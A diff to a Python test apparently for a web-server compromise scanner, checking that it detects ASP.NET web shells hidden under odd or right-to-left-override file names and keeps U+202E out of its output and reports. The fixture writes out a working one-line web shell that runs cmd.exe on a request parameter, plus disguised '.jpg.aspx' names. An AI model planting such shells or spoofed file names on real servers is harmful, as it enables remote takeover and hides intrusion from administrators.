@@ -333,10 +333,19 @@ def test_non_utf8_file_name_beside_the_logs(attacked: Path, tmp_path: Path) -> N
         f.write(some_log(attacked).read_bytes())
     bidi = attacked / W3SVC1 / "u_ex210399\u202egol.txt"
     bidi.write_bytes(b"\x00\x01 not a log")
+    shells = attacked / "inetpub" / "wwwroot" / "aspnet_client"
+    shells.mkdir(parents=True)
+    shell = b'<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>'
+    with open(os.fsencode(shells) + b"/sh\xffell.aspx", "wb") as f:  # harmless synthetic shell
+        f.write(shell)
+    (shells / "evil\u202expsa.jpg.aspx").write_bytes(shell)
     before = snapshot(attacked)
-    r = run("scan", attacked, "-j", "1", "--json", tmp_path / "r.json")
+    r = run("scan", attacked, "-j", "1", "--json", tmp_path / "r.json", "--report", tmp_path / "rep0")
     assert r.rc == 20, r.tail()
     assert "\u202e" not in r.out + r.err, "U+202E printed raw in the terminal"
+    found = json.dumps(load(tmp_path / "r.json")["findings"])
+    assert "psa.jpg.aspx" in found and "ell.aspx" in found, "a shell with an odd name was not examined"
+    assert "\u202e" not in (tmp_path / "rep0" / "report.html").read_text(encoding="utf-8")
     r2 = run("scan", attacked, "-q", "-j", "1", "--json", "-")
     assert r2.rc == 20, r2.tail()
     r3 = run("report", tmp_path / "r.json", "-o", tmp_path / "rep")
